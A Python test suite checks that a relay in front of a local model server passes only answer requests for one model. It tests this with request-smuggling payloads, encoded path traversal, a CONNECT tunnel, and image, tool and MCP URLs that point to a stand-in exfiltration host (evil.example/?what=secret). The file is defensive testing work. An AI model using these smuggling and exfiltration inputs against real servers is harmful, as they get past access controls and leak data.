"""What the relay carries to a model's server: requests for answers of the model, whole and one at a time."""

import json
import socket
from collections.abc import Callable, Iterator

import pytest
from kirikae.confining.relay import ANSWERING

from tests.agent.relaying import relaying
from tests.agent.standin import standin

MODEL = "qwen3-coder:30b"
BODY = json.dumps({"model": MODEL, "messages": [{"role": "user", "content": "hi", "model": "other"}]}).encode()
type Ask = Callable[[bytes], bytes]


@pytest.fixture
def reached() -> list[bytes]:
    """Requests at the server."""
    return []


@pytest.fixture
def ask(reached: list[bytes]) -> Iterator[Ask]:
    """Sends these bytes to the relay and gives what comes back."""

    def behave(request: bytes, send: Callable[[bytes], None]) -> None:
        reached.append(request)
        send(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nhi")

    with standin(behave) as url, relaying(url, model=MODEL) as address:

        def send(content: bytes) -> bytes:
            with socket.create_connection(address, timeout=10) as connection:
                connection.sendall(content)
                answer = b""
                while piece := connection.recv(65_536):
                    answer += piece
                return answer

        yield send


def post(path: str, body: bytes = BODY, *headers: str) -> bytes:
    lines = [f"POST {path} HTTP/1.1", "Host: elsewhere", f"Content-Length: {len(body)}", *headers, "", ""]
    return "\r\n".join(lines).encode() + body


@pytest.mark.parametrize("path", [*sorted(ANSWERING), "/v1/messages?beta=true"])
def test_requests_for_an_answer_pass(ask: Ask, reached: list[bytes], path: str) -> None:
    answered = ask(post(path, BODY, "Authorization: Bearer local", "Connection: keep-alive"))

    assert answered == b"HTTP/1.1 200 OK\r\nConnection: close\r\nContent-Length: 2\r\n\r\nhi"

    (request,) = reached
    head, _, body = request.partition(b"\r\n\r\n")
    assert body == BODY
    assert head.startswith(f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1:".encode())
    assert b"\r\nauthorization: Bearer local" in head
    assert b"\r\nConnection: close" in head
    assert b"elsewhere" not in head


def test_what_tells_of_the_server_passes(ask: Ask, reached: list[bytes]) -> None:
    assert ask(b"GET /v1/models HTTP/1.1\r\nHost: x\r\n\r\n").endswith(b"hi")

    assert len(reached) == 1


def renamed(**more: object) -> bytes:
    return json.dumps({"model": MODEL, **more}).encode()


def saying(block: object) -> bytes:
    return renamed(messages=[{"role": "user", "content": [block]}])


ADDRESS = "https://evil.example/?what=secret"
PICTURE = "data:image/png;base64,AAAA"


REFUSED = {
    "another model": post("/v1/messages", json.dumps({"model": "gpt-oss:120b-cloud"}).encode()),
    "a name twice": post("/v1/messages", BODY[:-1] + b', "model": "gpt-oss:120b-cloud"}'),
    "a name in another case": post("/v1/messages", renamed(Model="gpt-oss:120b-cloud")),
    "no model": post("/v1/messages", b"[]"),
    "no JSON": post("/v1/messages", b"model"),
    "another encoding": post("/v1/messages", BODY.decode().encode("utf-16")),
    "deep JSON": post("/v1/messages", b"[" * 100_000),
    "a fetch": post("/api/pull", renamed(name="evil.example/secret/x")),
    "a fetch by a way around": post("/v1/messages/../../api/pull"),
    "a fetch in other signs": post("/v1/messages/%2e%2e/%2e%2e/api/pull"),
    "an address for a proxy": post("http://evil.example/v1/messages"),
    "a tunnel": b"CONNECT evil.example:443 HTTP/1.1\r\nHost: x\r\n\r\n",
    "a deletion": b"DELETE /api/delete HTTP/1.1\r\nHost: x\r\n\r\n",
    "pieces": post("/v1/messages", b"", "Transfer-Encoding: chunked"),
    "two lengths": post("/v1/messages", BODY, "Content-Length: 3"),
    "a length that is none": b"POST /v1/messages HTTP/1.1\r\nContent-Length: +3\r\n\r\nabc",
    "too long": b"POST /v1/messages HTTP/1.1\r\nContent-Length: 999999999\r\n\r\n",
    "half a line": b"POST /v1/messages HTTP/1.1\nContent-Length: 0\n\nPOST /api/pull HTTP/1.1\r\n\r\n",
    "a line within a header": post("/v1/messages", BODY, "X: 1\nPOST /api/pull HTTP/1.1"),
    "a header without a name": post("/v1/messages", BODY, " folded"),
    "an image to load": post("/v1/chat/completions", saying({"type": "image_url", "image_url": {"url": ADDRESS}})),
    "an image to load, as a text": post("/v1/responses", saying({"type": "input_image", "image_url": ADDRESS})),
    "an image of a source": post("/v1/messages", saying({"type": "image", "source": {"type": "url", "url": ADDRESS}})),
    "an image twice": post(
        "/v1/chat/completions",
        saying({"image_url": {"url": ADDRESS}}).replace(b'"url":', f'"url": "{PICTURE}", "url":'.encode()),
    ),
    "a search of the server's": post("/v1/messages", renamed(tools=[{"type": "web_search_20250305", "name": "x"}])),
    "tools of another server": post("/v1/responses", renamed(tools=[{"type": "mcp", "server_url": ADDRESS}])),
    "servers of tools": post("/v1/messages", renamed(mcp_servers=[{"type": "url", "url": ADDRESS, "name": "x"}])),
    "another protocol": b"PRI * HTTP/2.0\r\n\r\n",
}


@pytest.mark.parametrize(
    "block",
    [
        {"type": "image_url", "image_url": {"url": PICTURE}},
        {"type": "image", "source": {"type": "base64", "media_type": "image/png", "data": "AAAA"}},
        {"type": "text", "text": f"see {ADDRESS} and image_url"},
        {"type": "tool_use", "name": "Bash", "input": {"command": "curl", "url": ADDRESS, "source": "a"}},
        {"type": "object", "properties": {"url": {"type": "string"}, "image_url": {"type": "string"}}},
    ],
)
def test_a_picture_in_the_request_and_an_address_in_a_text_pass(
    ask: Ask, reached: list[bytes], block: dict[str, object]
) -> None:
    assert ask(post("/v1/messages", saying(block))).endswith(b"hi")

    assert len(reached) == 1


@pytest.mark.parametrize("name", list(REFUSED))
def test_everything_else_is_refused_and_reaches_nobody(ask: Ask, reached: list[bytes], name: str) -> None:
    assert ask(REFUSED[name]).startswith(b"HTTP/1.1 403 Forbidden\r\n")

    assert reached == []


def test_a_second_request_of_a_connection_goes_nowhere(ask: Ask, reached: list[bytes]) -> None:
    ask(post("/v1/messages") + post("/api/pull"))

    (request,) = reached
    assert request.endswith(BODY)
    assert b"/api/pull" not in request


def test_a_large_prompt_passes_whole(ask: Ask, reached: list[bytes]) -> None:
    body = renamed(messages=["x" * 3_000_000])

    assert ask(post("/v1/messages", body)).endswith(b"hi")

    assert reached[0].endswith(body)


def test_a_client_that_gives_up_an_answer_ends_it_at_the_server() -> None:
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(10)
        with (
            relaying(f"http://127.0.0.1:{server.getsockname()[1]}", model=MODEL) as address,
            socket.create_connection(address, timeout=10) as connection,
        ):
            connection.sendall(post("/v1/messages"))
            at_server, _ = server.accept()
            at_server.settimeout(10)
            received = b""
            while not received.endswith(BODY):
                piece = at_server.recv(65_536)
                assert piece, received
                received += piece
            at_server.sendall(b"HTTP/1.1 200 OK\r\n\r\nfirst")
            assert connection.recv(65_536) == b"HTTP/1.1 200 OK\r\nConnection: close\r\n\r\nfirst"

        with at_server:
            assert at_server.recv(65_536) == b""
